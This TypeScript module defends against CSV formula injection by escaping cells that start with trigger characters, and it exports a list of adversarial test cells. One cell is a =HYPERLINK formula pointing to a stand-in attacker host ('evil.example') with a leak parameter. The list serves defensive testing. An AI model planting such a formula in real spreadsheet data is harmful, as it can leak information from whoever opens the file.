/**
 * CSV formula neutralisation (OWASP "CSV injection"): a spreadsheet evaluates a
 * cell that starts with =, +, -, @, tab or carriage return, so a briefing
 * titled =HYPERLINK(...) would run in HR's export. Such a cell gets one leading
 * apostrophe, and so does a cell that already starts with one, which keeps
 * the encoding reversible: a reader strips exactly one leading apostrophe.
 *
 * The database applies the same rule (private.csv_cell, in
 * supabase/migrations/20261205100200_neutralise_csv_formulas.sql) to every text
 * cell it exports; an integration test holds the two to the same answers.
 */

const NEEDS_QUOTE = new Set(['=', '+', '-', '@', '\t', '\r', "'"]);

export function encodeCsvCell(text: string): string {
  return NEEDS_QUOTE.has(text.charAt(0)) ? `'${text}` : text;
}

export function decodeCsvCell(cell: string): string {
  return cell.startsWith("'") ? cell.slice(1) : cell;
}

/** Cells that try each trigger, quoting, and non-ASCII, for tests of both encoders. */
export const ADVERSARIAL_CSV_CELLS: readonly string[] = [
  '=HYPERLINK("http://evil.example/?leak","Open policy")',
  '=1+2',
  '+1',
  '-1',
  '-',
  '@SUM(A1:A9)',
  '\t=1',
  '\r=1',
  "'",
  "''=1",
  "'plain",
  ' =1',
  '"=1"',
  'a=1',
  '',
  'Returns policy',
  '\n=1',
  '＝1',
  'Ünïcödé =',
  '😀=1',
];
